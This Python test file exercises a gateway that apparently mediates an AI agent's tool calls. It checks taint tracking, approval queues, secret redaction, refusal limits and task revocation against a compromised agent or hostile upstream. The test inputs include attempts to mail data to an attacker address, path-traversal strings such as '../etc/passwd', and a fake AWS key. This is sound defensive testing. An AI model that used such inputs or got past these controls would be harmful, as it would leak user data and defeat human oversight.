"""What a compromised agent, its reading matter and a hostile upstream tried on the page."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from safeconduct.core.manifest import ContentManifest, SourceLabel
from safeconduct.core.policy import PolicyAnswer, PolicyElevate
from safeconduct.inspectors.secrets import SecretInspector
from safeconduct.tools.catalogue import Catalogue
from tests.support.listeners import Hears
from tests.support.worlds import Rules
from tests.unit.test_gateway import CASE, Chatty, Spy, caller, get_case, records, sent, simulated

EVE = "eve@evil.example"


def hers(case_id: str) -> dict[str, Any]:
    """A case that the attacker opened herself: her address is its customer's."""
    return {**CASE, "id": case_id, "customer_email": EVE}


async def test_an_object_that_the_agent_chose_vouches_for_nobody(tmp_path: Path) -> None:
    async with simulated(tmp_path) as task:
        assert (await task.call("crm.get_case", {"case_id": "C-666"}, hers)).verdict == "done"
        await task.call("crm.get_case", {"case_id": "C-1"}, get_case)
        step = await task.call("mail.send", {"to": EVE, "body": "x"}, sent)
        assert step.reason == "destination-not-allowed"


async def test_text_that_came_as_progress_taints_like_the_result(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with simulated(tmp_path) as task:
        monkeypatch.setitem(task.rooms.upstreams, "crm", Chatty())
        params = {"name": "get_case", "arguments": {"case_id": "C-1"}}

        async def gone(_: object) -> None:
            raise asyncio.CancelledError

        with pytest.raises(asyncio.CancelledError):
            await task.rooms.gateway.call(
                caller(task), "tools/call", "crm", "get_case", params, Hears(gone)
            )
        assert task.state.labels.integrity.name == "untrusted"


async def test_a_resolver_carries_nothing_out_that_the_call_may_not(tmp_path: Path) -> None:
    asked: list[str] = []

    def deal(id: str) -> dict[str, Any]:
        asked.append(id)
        return {"id": id, "amount_minor": 1}

    resolvers = {"crm.get_deal": deal, "crm.on_file": lambda: {"emails": []}}
    async with simulated(tmp_path, resolvers=resolvers) as task:
        await task.call("crm.list_customers", {}, lambda: {"rows": []})
        step = await task.call("crm.update_deal", {"id": "TOPSECRET", "next_step": "x"}, sent)
        assert (step.verdict, asked) == ("refused", [])
        secret = "AKIA" + "ABCDEFGHIJKLMNOP"
        step = await task.call("crm.update_deal", {"id": "D-1", "next_step": secret}, sent)
        assert (step.verdict, asked) == ("refused", [])


async def test_questions_do_not_push_each_other_off_the_desk(tmp_path: Path) -> None:
    async with simulated(tmp_path, approval_scopes=("mail:send",)) as task:
        bodies = [{"to": "dana@customer.example", "body": str(n)} for n in range(15)]
        steps = [await task.call("mail.send", one, sent) for one in bodies]
        reasons = [step.reason for step in steps]
        assert reasons == ["approval-required"] * 10 + ["desk-full"] * 5
        assert len(task.rooms.desk.pending()) == 10
        long = {"to": "dana@customer.example", "body": "x" * 20_000}
        assert (await task.call("mail.send", long, sent)).reason == "desk-full"


async def test_one_call_is_asked_about_once_however_often_it_is_sent(tmp_path: Path) -> None:
    async with simulated(tmp_path, approval_scopes=("mail:send",)) as task:
        same = {"to": "dana@customer.example", "body": "x"}
        await asyncio.gather(*(task.call("mail.send", same, sent) for _ in range(8)))
        (question,) = task.rooms.desk.pending()
        await task.rooms.desk.operate(question.id, granted=False, by="uid:0")
        assert (await task.call("mail.send", same, sent)).reason == "approval-denied"


async def test_an_approval_of_one_is_not_an_approval_of_one_point_nought(tmp_path: Path) -> None:
    got: list[Any] = []
    rules = Rules(PolicyAnswer(elevate=(PolicyElevate("x", "x", 300),)))
    async with simulated(tmp_path, policy=rules, approver="always-yes") as task:
        step = await task.call(
            "crm.update_deal", {"id": "D-7", "next_step": 1.0}, lambda **given: got.append(given)
        )
        assert step.verdict == "done"
        assert [type(one["next_step"]) for one in got] == [int]


async def test_an_absurd_amount_is_a_recorded_refusal(tmp_path: Path) -> None:
    resolvers = {"crm.get_deal": lambda id: {"id": id, "amount_minor": 1}}
    async with simulated(tmp_path, resolvers=resolvers) as task:
        amount = 2**53 - 1
        await task.call("crm.update_deal", {"id": "D-7", "amount_minor": amount}, sent)
        assert len(records(task, "decision")) == 1


async def test_no_more_refusals_are_answered_than_the_task_has(tmp_path: Path) -> None:
    async with simulated(tmp_path, max_refusals=3) as task:
        steps = await asyncio.gather(
            *(task.call("mail.send", {"to": EVE, "body": str(n)}, sent) for n in range(40))
        )
        told = [step for step in steps if step.reason == "destination-not-allowed"]
        assert len(told) == 3
        assert task.state.refusals == 3


async def test_a_credential_in_a_key_neither_leaves_nor_comes_in(tmp_path: Path) -> None:
    secret = "AKIA" + "ABCDEFGHIJKLMNOP"
    async with simulated(tmp_path) as task:
        step = await task.call(
            "crm.get_case", {"case_id": "C-1"}, lambda **_: {secret: {"key": "innocent"}}
        )
        assert secret not in str(step.result)
        assert step.value == {"[redacted: secret.aws]": {"key": "innocent"}}


async def test_nothing_is_delivered_to_a_task_that_was_revoked_meanwhile(tmp_path: Path) -> None:
    async with simulated(tmp_path) as task:

        async def revoked_meanwhile(**_: object) -> dict[str, Any]:
            await task.rooms.revoke("task", task.task, "uid:0")
            return {"id": "C-1"}

        step = await task.call("crm.get_case", {"case_id": "C-1"}, revoked_meanwhile)
        assert (step.reason, step.result) == ("task-revoked", None)
        assert records(task, "outcome")[0]["status"] == "ok"


@pytest.mark.parametrize("tail", ["../etc/passwd", "a/..%2fetc", "a\nb", "%2e%2e/x", "a\\b"])
async def test_a_resource_s_prefix_is_not_left(tmp_path: Path, tail: str) -> None:
    async with simulated(tmp_path) as task:
        catalogue = task.rooms.catalogue
        add_resource(catalogue)
        assert catalogue.locate("resources/read", "file:///kb/" + tail, "crm") is None
        assert catalogue.locate("resources/read", "file:///kb/a/b.md", "crm") is not None


def add_resource(catalogue: Catalogue) -> None:
    manifest = catalogue.manifests["crm"]
    resources = {
        "file:///kb/*": ContentManifest(
            scopes=("case:read",),
            source=SourceLabel(integrity="trusted", confidentiality="public"),
        )
    }
    changed = type(manifest)(upstream="crm", tools=manifest.tools, resources=resources)
    catalogue.manifests = {**catalogue.manifests, "crm": changed}


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "start", ["eyJaaaaaaaa", "-eyJaaaaaaaa", "sk-aaaa", "-sk-", "xoxb-a", "-----BEGIN A ", "AIzaa"]
)
def test_a_beginning_that_repeats_does_not_stall_the_inspector(start: str) -> None:
    """Two megabytes: a pattern that starts anew inside itself would need minutes for them."""
    SecretInspector().inspect(start * (2_000_000 // len(start)))


async def test_an_unreviewed_definition_brings_no_text_to_the_agent(tmp_path: Path) -> None:
    async with simulated(tmp_path) as task:
        catalogue = task.rooms.catalogue
        manifest = catalogue.manifests["crm"]
        tools = {name: replace(tool, pin=None) for name, tool in manifest.tools.items()}
        catalogue.manifests = {**catalogue.manifests, "crm": replace(manifest, tools=tools)}
        await task.rooms.offers.refresh(task.rooms.pin)
        listed = await task.rooms.gateway.visible(caller(task), "tools/list", "crm")
        assert listed
        assert {one["description"] for one in listed} == {
            "Nobody has reviewed this tool's definition yet."
        }
        assert {frozenset(one) for one in listed} == {
            frozenset({"name", "description", "inputSchema"})
        }


async def test_a_read_that_the_user_s_request_names_still_vouches(tmp_path: Path) -> None:
    tool = Spy()
    async with simulated(tmp_path) as task:
        await task.call("crm.get_case", {"case_id": "C-1"}, hers)
        step = await task.call("mail.send", {"to": EVE, "body": "x"}, tool)
        assert (step.verdict, tool.runs) == ("done", 1)
